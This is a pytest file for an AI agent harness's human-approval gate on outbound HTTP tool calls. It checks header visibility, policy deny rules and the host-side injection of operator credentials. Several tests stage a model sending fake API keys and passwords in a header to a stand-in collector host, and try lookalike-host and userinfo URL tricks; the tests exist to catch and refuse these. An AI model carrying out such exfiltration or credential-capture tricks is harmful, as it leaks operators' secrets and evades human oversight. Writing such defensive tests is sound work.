"""The approver sees every header the model sends; only the operator's own credentials are hidden,
added by the host at execution and never stored; policy rules can match headers."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path
from typing import Any

import pytest

from harness.approval.gate import ApprovalGate
from harness.approval.policy import load_policy
from harness.approval.queue import ApprovalQueue
from harness.config import Config
from harness.errors import ApprovalDenied, ConfigError, ToolArgumentsError
from harness.tools.base import ToolContext
from harness.tools.outbound.registry import outbound_tools
from tests.approval.helpers import CountingServer, harness_cli

NOTE = "API_TOKEN=sk-live-7f3a9c;DB_PASSWORD=hunter2;AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
OPERATOR_TOKEN = "Bearer operator-only-4d1f0e"


def _session(state: Path, mode: str, policy: str | None = None) -> tuple[dict[str, Any], ToolContext, ApprovalGate]:
    state.mkdir(parents=True, exist_ok=True)
    policy_file = None
    if policy is not None:
        policy_file = state / "policy.toml"
        policy_file.write_text(policy)
    config = Config()
    config = config.replace(approval=dataclasses.replace(config.approval, state_dir=state))
    gate = ApprovalGate(ApprovalQueue(state), load_policy(policy_file), mode=mode, timeout=30, poll_interval=0.05)
    ctx = ToolContext(sandbox=None, session="s1", tool_use_id="toolu_1", approver=gate)  # type: ignore[arg-type]
    return {t.name: t for t in outbound_tools(config)}, ctx, gate


def _credentials(state: Path, url: str, mode: int = 0o600) -> Path:
    state.mkdir(parents=True, exist_ok=True)
    path = state / "credentials.toml"
    path.write_text(f'[[credentials]]\nname = "collector"\nurl = "{url}"\n'
                    f'headers = {{ Authorization = "{OPERATOR_TOKEN}" }}\n')
    os.chmod(path, mode)
    return path


def test_a_secret_looking_header_name_no_longer_hides_the_payload(tmp_path: Path) -> None:
    tools, ctx, gate = _session(tmp_path, "deny")
    with pytest.raises(ApprovalDenied):
        tools["http_request"].function(ctx, method="POST", url="https://collector.example/x", key="note",
                                       headers={"X-Session-Note": NOTE, "Authorization": "Bearer model-chosen"})
    preview = gate.queue.get(1).preview
    assert f"header X-Session-Note  {NOTE}" in preview and "masked" not in preview
    assert "header Authorization   Bearer model-chosen" in preview
    shown = json.loads(harness_cli("show", "1", "--json", state_dir=tmp_path).stdout)
    assert shown["args"]["headers"] == {"X-Session-Note": NOTE, "Authorization": "Bearer model-chosen"}
    text = harness_cli("show", "1", state_dir=tmp_path).stdout
    assert f"│ header X-Session-Note  {NOTE}" in text


def test_policy_rules_match_single_headers_and_the_whole_header_block(tmp_path: Path) -> None:
    policy = ('[[rules]]\nname = "no-notes"\ntool = "http_request"\ndecision = "deny"\n'
              'match = { "header.x-session-note" = ".*TOKEN.*" }\n\n'
              '[[rules]]\nname = "only-accept"\ntool = "http_request"\ndecision = "deny"\n'
              'unless = { headers = "(Accept: [^\\n]*)?" }\n\n'
              '[[rules]]\nname = "local"\ntool = "http_request"\ndecision = "approve"\n')
    with CountingServer() as server:
        tools, ctx, gate = _session(tmp_path, "deny", policy)
        with pytest.raises(ApprovalDenied, match=r"denied by policy \(rule no-notes\)"):
            tools["http_request"].function(ctx, url=server.url(), key="a", headers={"X-Session-Note": NOTE})
        with pytest.raises(ApprovalDenied, match=r"denied by policy \(rule only-accept\)"):
            tools["http_request"].function(ctx, url=server.url(), key="b", headers={"X-Other": "1"})
        out = tools["http_request"].function(ctx, url=server.url(), key="c", headers={"Accept": "text/plain"})
        assert "hit 1 GET /collect" in out and server.count() == 1          # positive control
        assert [r.rule for r in reversed(gate.queue.requests())] == ["no-notes", "only-accept", "local"]


def test_an_operator_credential_is_added_by_the_host_hidden_in_the_preview_and_never_stored(tmp_path: Path) -> None:
    state = tmp_path / "state"
    with CountingServer() as server:
        source = _credentials(state, server.url("/api/"))
        tools, ctx, gate = _session(state, "deny", '[[rules]]\nname = "local"\ntool = "http_request"\n'
                                                   'decision = "approve"\n')
        out = tools["http_request"].function(ctx, method="POST", url=server.url("/api/items"), key="k1",
                                             headers={"X-Trace": "7"}, body="hello")
        assert "hit 1 POST /api/items" in out
        assert server.hits[0].headers["Authorization"] == OPERATOR_TOKEN and server.hits[0].headers["X-Trace"] == "7"
        request = gate.queue.get(1)
        assert (f"header Authorization  (hidden: operator credential 'collector' from {source}; added by the host "
                "when the request runs, not stored, not shown to the model)") in request.preview
        assert "header X-Trace        7" in request.preview
        assert request.args["credential"] == "collector" and request.args["headers"] == {"X-Trace": "7"}
        out = tools["http_request"].function(ctx, url=server.url("/apix"), key="k2")   # outside its path
        assert "hit 2 GET /apix" in out and "Authorization" not in server.hits[1].headers
        tools, ctx, gate = _session(state, "deny")           # a lookalike host, a userinfo trick: no credential
        for i, url in enumerate((f"http://127.0.0.1.nip.invalid:{server.port}/api/",
                                 f"http://127.0.0.1:{server.port}@localhost:{server.port}/api/")):
            with pytest.raises(ApprovalDenied):
                tools["http_request"].function(ctx, url=url, key=f"k{i + 3}")
            request = gate.queue.find("http_request", f"k{i + 3}")
            assert request is not None and request.args["credential"] is None and "hidden" not in request.preview
        gate.queue.close()
    stored = b"".join(p.read_bytes() for p in state.iterdir() if p.name != "credentials.toml")
    assert b"operator-only" not in stored and b"X-Trace" in stored      # the database holds a reference only


def test_a_model_header_that_would_replace_the_operator_credential_is_refused(tmp_path: Path) -> None:
    with CountingServer() as server:
        _credentials(tmp_path, server.url("/api/"))
        tools, ctx, gate = _session(tmp_path, "deny")
        with pytest.raises(ToolArgumentsError) as err:
            tools["http_request"].function(ctx, url=server.url("/api/x"), key="k",
                                           headers={"authorization": "Bearer model"})
        assert ("header 'authorization' is set by the operator for this URL (credential 'collector'); leave it "
                "out, the host adds it when the request runs") in str(err.value)
        assert gate.queue.requests() == [] and server.count() == 0


def test_a_credentials_file_others_can_read_is_refused(tmp_path: Path) -> None:
    path = _credentials(tmp_path, "https://api.example.com/", mode=0o644)
    tools, ctx, _ = _session(tmp_path, "deny")
    with pytest.raises(ConfigError) as err:
        tools["http_request"].function(ctx, url="https://api.example.com/x", key="k")
    assert str(err.value) == (f"{path} has mode 0644 and owner uid {os.getuid()}; credentials must be readable by "
                              f"their owner only (uid {os.getuid()}): `chmod 600 {path}`")
    os.chmod(path, 0o600)                                       # positive control: the same file, private
    with pytest.raises(ApprovalDenied):
        tools["http_request"].function(ctx, url="https://api.example.com/x", key="k")
